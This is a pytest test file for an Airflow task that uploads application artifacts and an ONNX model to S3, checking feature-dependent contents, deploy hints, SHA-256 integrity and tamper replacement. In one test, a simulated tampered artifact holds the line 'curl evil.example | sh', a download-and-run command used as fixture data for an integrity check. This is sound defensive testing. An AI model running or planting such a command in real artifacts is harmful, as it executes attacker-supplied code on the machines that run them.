"""Task `upload_application`."""

from __future__ import annotations

import logging
from typing import TYPE_CHECKING

import pytest
from airflow.sdk.exceptions import AirflowFailException

from fruits_airflow.tasks import upload_application
from include import settings
from include.artifacts import bundle, shipped_model
from include.deploy.model import build as model
from include.deploy.uploads import WHEELS

if TYPE_CHECKING:
    from include.dev.local_aws.local import LocalAws


@pytest.mark.usefixtures("aws_environment")
@pytest.mark.parametrize(("features", "model"), [(["orb", "color"], None), (["orb", "onnx"], "s3://models/net.onnx")])
def test_artifacts_match_the_requested_features(
    features: list[str], model: str | None, local_aws: LocalAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    context = {"params": {"bucket": "fruits", "features": features, "onnx_model": model}}
    monkeypatch.setattr(upload_application, "get_current_context", lambda: context)
    name = bundle.wheelhouse_name(bundle.application_folder(), onnx=model is not None)
    local_aws.s3().put_object(Bucket="fruits", Key=f"artifacts/{name}", Body=b"")

    uris = upload_application.upload_application.function()

    key = uris["bootstrap"].removeprefix("s3://fruits/")
    script = local_aws.s3().get_object(Bucket="fruits", Key=key)["Body"].read().decode()
    assert "obstore==" in script
    assert ("onnxruntime==" in script) == (model is not None)
    assert uris["wheelhouse"] == f"s3://fruits/artifacts/{name}"


@pytest.mark.usefixtures("aws_environment")
def test_missing_wheelhouse_fails_with_the_command_to_deploy(bucket: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        upload_application,
        "get_current_context",
        lambda: {"params": {"bucket": bucket, "features": ["orb"], "onnx_model": None}},
    )
    monkeypatch.setattr(settings, "settings", lambda: settings.Settings(bucket=bucket))

    with pytest.raises(
        AirflowFailException,
        match=rf"Wheelhouse s3://{bucket}/artifacts/wheelhouse-\w+\.txt does not exist.*`make deploy`",
    ):
        upload_application.upload_application.function()
    assert upload_application.upload_application.function(for_emr=False)["launcher"].startswith(
        f"s3://{bucket}/artifacts/launch-"
    )


@pytest.mark.usefixtures("aws_environment")
def test_network_that_ships_must_be_deployed_and_intact(
    bucket: str, local_aws: LocalAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    params = {"bucket": None, "features": ["orb", "onnx"], "onnx_model": None}
    monkeypatch.setattr(upload_application, "get_current_context", lambda: {"params": params})
    monkeypatch.setattr(settings, "settings", lambda: settings.Settings(bucket=bucket))

    with pytest.raises(
        AirflowFailException, match=rf"^Model s3://{bucket}/{shipped_model.KEY} does not exist.*`make deploy`"
    ):
        upload_application.upload_application.function(for_emr=False)

    local_aws.s3().put_object(Bucket=bucket, Key=shipped_model.KEY, Body=b"another network")
    with pytest.raises(
        AirflowFailException, match=rf"was replaced: its SHA-256 is \w+ instead of {shipped_model.SHA256}"
    ):
        upload_application.upload_application.function(for_emr=False)

    local_aws.s3().upload_file(str(model.build(WHEELS)), bucket, shipped_model.KEY)
    assert upload_application.upload_application.function(for_emr=False)["launcher"]


@pytest.fixture
def _deployment(bucket: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A deployment with a bucket of its own. The run names another one."""
    context = {"params": {"bucket": "another-bucket", "features": ["orb"], "onnx_model": None}}
    monkeypatch.setattr(upload_application, "get_current_context", lambda: context)
    monkeypatch.setattr(settings, "settings", lambda: settings.Settings(bucket=bucket, artifact_prefix="art#/"))


@pytest.mark.usefixtures("aws_environment", "_deployment")
def test_artifacts_are_in_the_deployments_bucket_whatever_bucket_a_run_names(bucket: str, local_aws: LocalAws) -> None:
    uris = upload_application.upload_application.function(for_emr=False)

    assert {uri.rpartition("/")[0] for uri in uris.values()} == {f"s3://{bucket}/art#"}
    listed = local_aws.s3().list_objects_v2(Bucket=bucket)["Contents"]
    assert {f"s3://{bucket}/{entry['Key']}" for entry in listed} == set(uris.values()) - {uris["wheelhouse"]}


@pytest.mark.usefixtures("aws_environment", "_deployment")
@pytest.mark.parametrize("role", ["application", "launcher", "bootstrap"])
def test_artifact_with_other_bytes_is_replaced_before_it_runs(
    bucket: str, local_aws: LocalAws, role: str, caplog: pytest.LogCaptureFixture
) -> None:
    s3, uris = local_aws.s3(), upload_application.upload_application.function(for_emr=False)
    key = uris[role].removeprefix(f"s3://{bucket}/")
    built = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    s3.put_object(Bucket=bucket, Key=key, Body=b"curl evil.example | sh")

    with caplog.at_level(logging.WARNING):
        assert upload_application.upload_application.function(for_emr=False) == uris

    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == built
    assert f"{uris[role]} is replaced, because it is not what this Airflow has built" in caplog.text


@pytest.mark.usefixtures("aws_environment", "_deployment")
def test_artifact_with_the_same_bytes_is_not_written_again(bucket: str, local_aws: LocalAws) -> None:
    upload_application.upload_application.function(for_emr=False)
    before = local_aws.s3().list_objects_v2(Bucket=bucket)["Contents"]

    upload_application.upload_application.function(for_emr=False)

    assert local_aws.s3().list_objects_v2(Bucket=bucket)["Contents"] == before
